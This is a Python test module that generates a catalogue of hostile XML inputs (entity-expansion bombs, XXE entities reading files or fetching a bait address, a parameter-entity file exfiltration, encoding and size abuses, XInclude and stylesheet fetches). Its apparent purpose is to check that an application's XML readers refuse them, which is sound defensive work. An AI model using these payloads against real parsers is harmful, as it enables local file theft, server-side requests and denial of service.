"""What no XML reader may fall for. Every door that reads XML is shown every one of these.

A payload is made of a document that the door would take, so that the attack alone is refused.
"""

import base64
import re
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from typing import Final

from tests.hostile.bait import Bait

Make = Callable[[str, Bait], bytes]

_DECLARATION: Final = re.compile(r"\A\s*<\?xml[^>]*\?>\s*")
_ROOT: Final = re.compile(r"<([A-Za-z_][\w.:-]*)([^>]*)>")
_XI: Final = "http://www.w3.org/2001/XInclude"
_XSI: Final = "http://www.w3.org/2001/XMLSchema-instance"


@dataclass(frozen=True)
class Payload:
    """`refused` ones are no XML that anybody reads; others may be read, and then mean nothing."""

    make: Make
    refused: bool = True


def _many(text: str, times: int) -> str:
    """The text again and again; `{}` in it is a number."""
    return "".join(text.format(n) for n in range(times))


def _bare(document: str) -> str:
    return _DECLARATION.sub("", document, count=1)


def _before(document: str, prolog: str, declaration: str = '<?xml version="1.0"?>') -> str:
    return declaration + prolog + _bare(document)


def _inside(document: str, content: str) -> str:
    bare = _bare(document)
    root = _ROOT.search(bare)
    assert root is not None
    return bare[: root.end()] + content + bare[root.end() :]


def _with(document: str, attributes: str) -> str:
    bare = _bare(document)
    root = _ROOT.search(bare)
    assert root is not None
    return f"{bare[: root.end(1)]} {attributes}{bare[root.end(1) :]}"


def _dtd(subset: str, used: str = "") -> Make:
    """A document type of these declarations; {address}, {file} are the bait's."""

    def make(document: str, bait: Bait) -> bytes:
        told = subset.replace("{address}", bait.address).replace("{file}", bait.file.as_uri())
        return _before(_inside(document, used), f"<!DOCTYPE x {told}>").encode()

    return make


def _content(content: Callable[[Bait], str] | str) -> Make:
    def make(document: str, bait: Bait) -> bytes:
        return _inside(document, content if isinstance(content, str) else content(bait)).encode()

    return make


def _root(attributes: Callable[[Bait], str] | str) -> Make:
    def make(document: str, bait: Bait) -> bytes:
        told = attributes if isinstance(attributes, str) else attributes(bait)
        return _with(document, told).encode()

    return make


def _declared(encoding: str, written: str = "utf-8") -> Make:
    def make(document: str, _: Bait) -> bytes:
        told = _before(document, "", f'<?xml version="1.0" encoding="{encoding}"?>')
        return told.encode(written, "xmlcharrefreplace")

    return make


def _prolog(prolog: Callable[[Bait], str] | str) -> Make:
    def make(document: str, bait: Bait) -> bytes:
        return _before(document, prolog if isinstance(prolog, str) else prolog(bait)).encode()

    return make


def _changed(change: Callable[[bytes], bytes]) -> Make:
    return lambda document, _: change(_bare(document).encode())


def _laughs(base: str, levels: int, times: int) -> str:
    every = [f'<!ENTITY e0 "{base}">']
    every += [
        f'<!ENTITY e{level} "{_many(f"&e{level - 1};", times)}">' for level in range(1, levels)
    ]
    return f"[{''.join(every)}]"


def _bomb_in(encoding: str, declared: str) -> Make:
    def make(document: str, _: Bait) -> bytes:
        prolog = f"<!DOCTYPE x {_laughs('lol', 10, 10)}>"
        head = f'<?xml version="1.0" encoding="{declared}"?>'
        octets = _before(_inside(document, "&e9;"), prolog, head)
        return octets.encode(encoding, "xmlcharrefreplace")

    return make


BOMBS: Final[dict[str, Payload]] = {
    "billion laughs": Payload(_dtd(_laughs("lol", 10, 10), "&e9;")),
    "billion laughs in an attribute": Payload(_dtd(_laughs("lol", 10, 10), '<a b="&e9;"/>')),
    "billion laughs by a default attribute": Payload(
        _dtd(_laughs("lol", 10, 10)[:-1] + '<!ATTLIST a b CDATA "&e9;">]', "<a/>")
    ),
    "billion laughs in utf-16": Payload(_bomb_in("utf-16", "utf-16")),
    "billion laughs in utf-16 without a mark": Payload(_bomb_in("utf-16-le", "utf-16")),
    "billion laughs in utf-7": Payload(_bomb_in("utf-7", "utf-7")),
    "billion laughs in utf-32": Payload(_bomb_in("utf-32", "utf-32")),
    "billion laughs in ebcdic": Payload(_bomb_in("cp037", "cp037")),
    "quadratic blow-up": Payload(_dtd(f'[<!ENTITY q "{"q" * 50_000}">]', "&q;" * 20_000)),
    "entity of itself": Payload(_dtd('[<!ENTITY a "&a;">]', "&a;")),
    "two entities of each other": Payload(_dtd('[<!ENTITY a "&b;"><!ENTITY b "&a;">]', "&a;")),
    "laughing parameters": Payload(
        _dtd("[<!ENTITY % a '<!ENTITY &#37; b \"&#37;a;&#37;a;\">'>%a;%b;]")
    ),
    "ten thousand entities": Payload(_dtd("[" + _many('<!ENTITY n{} "x">', 10_000) + "]", "&n1;")),
}

EXTERNAL: Final[dict[str, Payload]] = {
    "entity of a file": Payload(_dtd('[<!ENTITY x SYSTEM "{file}">]', "&x;")),
    "entity of a device": Payload(_dtd('[<!ENTITY x SYSTEM "file:///dev/zero">]', "&x;")),
    "entity of an address": Payload(_dtd('[<!ENTITY x SYSTEM "{address}">]', "&x;")),
    "entity with a public name": Payload(_dtd('[<!ENTITY x PUBLIC "-//x" "{address}">]', "&x;")),
    "entity of a file in an attribute": Payload(
        _dtd('[<!ENTITY x SYSTEM "{file}">]', '<a b="&x;"/>')
    ),
    "entity by ftp": Payload(
        _dtd('[<!ENTITY x SYSTEM "{address}">]'.replace("{address}", "ftp://127.0.0.1/"), "&x;")
    ),
    "entity of data": Payload(_dtd('[<!ENTITY x SYSTEM "data:text/plain,x">]', "&x;")),
    "entity that is not parsed": Payload(
        _dtd('[<!NOTATION n SYSTEM "{address}"><!ENTITY x SYSTEM "{address}" NDATA n>]')
    ),
    "parameter entity of an address": Payload(_dtd('[<!ENTITY % p SYSTEM "{address}"> %p;]')),
    "parameter entity of a file": Payload(_dtd('[<!ENTITY % p SYSTEM "{file}"> %p;]')),
    "parameter entities that carry a file away": Payload(
        _dtd('[<!ENTITY % f SYSTEM "{file}"><!ENTITY % d SYSTEM "{address}"> %d; %send;]')
    ),
    "parameter entity that declares another": Payload(
        _dtd("[<!ENTITY % a \"<!ENTITY &#37; b SYSTEM '{address}'>\"> %a; %b;]")
    ),
    "external subset": Payload(_dtd('SYSTEM "{address}"')),
    "external subset with a public name": Payload(_dtd('PUBLIC "-//x" "{address}"')),
    "external subset in a file": Payload(_dtd('SYSTEM "{file}"')),
    "external and internal subset": Payload(_dtd('SYSTEM "{address}" [<!ENTITY a "b">]', "&a;")),
}

TYPES: Final[dict[str, Payload]] = {
    "document type": Payload(_dtd("")),
    "document type with an attribute list": Payload(_dtd('[<!ATTLIST x id ID "x">]')),
    "document type with an element": Payload(_dtd("[<!ELEMENT x ANY>]")),
    "document type behind a comment": Payload(_prolog("<!-- c --><!DOCTYPE x>")),
    "document type behind an instruction": Payload(_prolog("<?p q?>\n\t<!DOCTYPE x>")),
    "document type behind blanks": Payload(_prolog(" " * 500_000 + "<!DOCTYPE x>")),
    "document type that is never ended": Payload(_prolog('<!DOCTYPE x [<!ENTITY a "')),
    "document type inside the root": Payload(_content("<!DOCTYPE x>")),
    "document type in lower case": Payload(_prolog("<!doctype x>")),
    "document type behind a byte order mark": Payload(
        lambda document, _: b"\xef\xbb\xbf" + _before(document, "<!DOCTYPE x>").encode()
    ),
    "document type behind the root": Payload(
        _changed(lambda octets: octets + b'<!DOCTYPE x [<!ENTITY a "b">]>')
    ),
}

ENCODINGS: Final[dict[str, Payload]] = {
    "declared utf-7": Payload(_declared("utf-7")),
    "declared utf-32": Payload(_declared("utf-32", "utf-32")),
    "declared utf-16, written utf-8": Payload(_declared("utf-16")),
    "declared utf-8, written utf-16": Payload(_declared("utf-8", "utf-16")),
    "utf-16 without a mark": Payload(_declared("utf-16", "utf-16-be")),
    "declared ebcdic": Payload(_declared("cp037", "cp037")),
    "declared by a name that nobody knows": Payload(_declared("x-user-defined")),
    "declared by a long name": Payload(_declared("u" * 5000)),
    "declared by a codec that is no encoding": Payload(_declared("rot13")),
    "declared by the name of a path": Payload(_declared("../../x")),
    "declared ascii, but not so": Payload(
        lambda document, _: _declared("us-ascii")(_inside(document, "<!--가-->"), _)
    ),
    "not utf-8": Payload(_content("<!--?-->"), refused=False),
    "overlong utf-8": Payload(
        lambda document, bait: _content("<a>?</a>")(document, bait).replace(b"?", b"\xc0\xbc")
    ),
    "half of a surrogate pair": Payload(
        lambda document, bait: _content("<a>?</a>")(document, bait).replace(b"?", b"\xed\xa0\x80")
    ),
    "a reference to half of a pair": Payload(_content("<a>&#xD800;</a>")),
    "NUL": Payload(_content("<a>\0</a>")),
    "NUL as a reference": Payload(_content("<a>&#0;</a>")),
    "NUL behind the root": Payload(_changed(lambda octets: octets + b"\0")),
    "a bell as a reference": Payload(_content("<a>&#7;</a>")),
    "U+FFFF": Payload(_content("<a>\uffff</a>")),
    "two byte order marks": Payload(_changed(lambda octets: b"\xef\xbb\xbf" * 2 + octets)),
}

SIZES: Final[dict[str, Payload]] = {
    "10,000 deep": Payload(_content("<a>" * 10_000 + "</a>" * 10_000)),
    "10,000 deep and never closed": Payload(_content("<a>" * 10_000)),
    "10,000 deep by namespaces": Payload(_content(_many('<p{0}:a xmlns:p{0}="u">', 10_000))),
    "300,000 elements": Payload(_content("<a/>" * 300_000)),
    "one element with 5,000 attributes": Payload(_content("<a " + _many("a{}='' ", 5000) + "/>")),
    "110,000 attributes": Payload(_content("<a " + _many("a{}='' ", 110_000) + "/>")),
    "50,000 namespaces on one element": Payload(
        _content("<a " + _many("xmlns:n{0}='u{0}' ", 50_000) + "/>"), refused=False
    ),
    "a namespace of 900,000 characters": Payload(_content(f'<a xmlns="{"n" * 900_000}"/>')),
    "a namespace of 900,000 characters that many inherit": Payload(
        _content(f'<a xmlns="{"n" * 900_000}">{"<b/>" * 10_000}</a>')
    ),
    "a name of 900,000 characters": Payload(_content(f"<{'n' * 900_000}/>")),
    "a prefix of 900,000 characters": Payload(
        _content(f'<{"n" * 900_000}:a xmlns:{"n" * 900_000}="u"/>')
    ),
    "an attribute name of 900,000 characters": Payload(_content(f'<a {"n" * 900_000}=""/>')),
    "an attribute of 900,000 characters": Payload(
        _content(f'<a b="{"n" * 900_000}"/>'), refused=False
    ),
    "900,000 characters of base64": Payload(
        _content(f"<a>{base64.b64encode(bytes(675_000)).decode()}</a>"), refused=False
    ),
    "300,000 references": Payload(_content(f"<a>{'&#65;' * 180_000}</a>"), refused=False),
    "a comment of 900,000 characters": Payload(_content(f"<!--{'c' * 900_000}-->"), refused=False),
    "a reference of 900,000 digits": Payload(_content(f"<a>&#{'9' * 900_000};</a>")),
    "900,000 blanks in a tag": Payload(_content(f"<a{' ' * 900_000}/>"), refused=False),
    "100 instructions before the root": Payload(_prolog("<?p q?>" * 100)),
    "a doubled attribute": Payload(_content("<a b='1' b='2'/>")),
    "a doubled attribute by two prefixes": Payload(
        _content("<a xmlns:p='u' xmlns:q='u' p:b='1' q:b='2'/>")
    ),
}

MALFORMED: Final[dict[str, Payload]] = {
    "nothing": Payload(_changed(lambda _: b"")),
    "blanks alone": Payload(_changed(lambda _: b" \r\n\t")),
    "no XML": Payload(_changed(lambda _: bytes(range(1, 256)))),
    "JSON": Payload(_changed(lambda _: b'{"resourceType": "Patient"}')),
    "cut in the middle": Payload(_changed(lambda octets: octets[: len(octets) // 2])),
    "two roots": Payload(_changed(lambda octets: octets * 2)),
    "a prefix that nobody declared": Payload(_content("<q:a/>")),
    "an entity that nobody declared": Payload(_content("<a>&nbsp;</a>")),
    "CDATA that is never ended": Payload(_content("<a><![CDATA[")),
    "a comment with two hyphens": Payload(_content("<!-- a -- b -->")),
    "a declaration that stands too late": Payload(_content('<?xml version="1.0"?>')),
    "a declaration behind a blank": Payload(
        lambda document, _: b" " + _before(document, "").encode()
    ),
    "an instruction that is never ended": Payload(_content("<?p ")),
    "a wrong version": Payload(
        lambda document, _: _before(document, "", '<?xml version="one"?>').encode()
    ),
    "deflated": Payload(_changed(zlib.compress)),
}

INERT: Final[dict[str, Payload]] = {
    "XInclude of a file": Payload(
        _content(
            lambda bait: f'<xi:include xmlns:xi="{_XI}" parse="text" href="{bait.file.as_uri()}"/>'
        ),
        refused=False,
    ),
    "XInclude of an address": Payload(
        _content(lambda bait: f'<xi:include xmlns:xi="{_XI}" href="{bait.address}"/>'),
        refused=False,
    ),
    "XInclude with a fallback": Payload(
        _content(
            lambda bait: (
                f'<xi:include xmlns:xi="{_XI}" href="{bait.address}"><xi:fallback>'
                f'<xi:include href="{bait.file.as_uri()}" parse="text"/></xi:fallback></xi:include>'
            )
        ),
        refused=False,
    ),
    "a schema's location": Payload(
        _root(lambda bait: f'xmlns:si="{_XSI}" si:schemaLocation="urn:x {bait.address}"'),
        refused=False,
    ),
    "a schema's location without a namespace": Payload(
        _root(lambda bait: f'xmlns:si="{_XSI}" si:noNamespaceSchemaLocation="{bait.address}"'),
        refused=False,
    ),
    "a stylesheet": Payload(
        _prolog(lambda bait: f'<?xml-stylesheet type="text/xsl" href="{bait.address}"?>'),
        refused=False,
    ),
    "a model": Payload(_prolog(lambda bait: f'<?xml-model href="{bait.address}"?>'), refused=False),
    "a catalogue": Payload(
        _prolog(lambda bait: f'<?oasis-xml-catalog catalog="{bait.address}"?>'), refused=False
    ),
    "an XSLT that reads a document": Payload(
        _content(
            lambda bait: (
                '<xsl:value-of xmlns:xsl="http://www.w3.org/1999/XSL/Transform" '
                f"select=\"document('{bait.address}')\"/>"
            )
        ),
        refused=False,
    ),
    "a base": Payload(_root(lambda bait: f'xml:base="{bait.address}"'), refused=False),
    "an instruction of PHP": Payload(
        _content(lambda bait: f"<?php readfile('{bait.file}'); ?>"), refused=False
    ),
    "a comment in a text": Payload(_content("<a>b<!-- c -->d</a>"), refused=False),
}

PAYLOADS: Final[dict[str, Payload]] = (
    BOMBS | EXTERNAL | TYPES | ENCODINGS | SIZES | MALFORMED | INERT
)
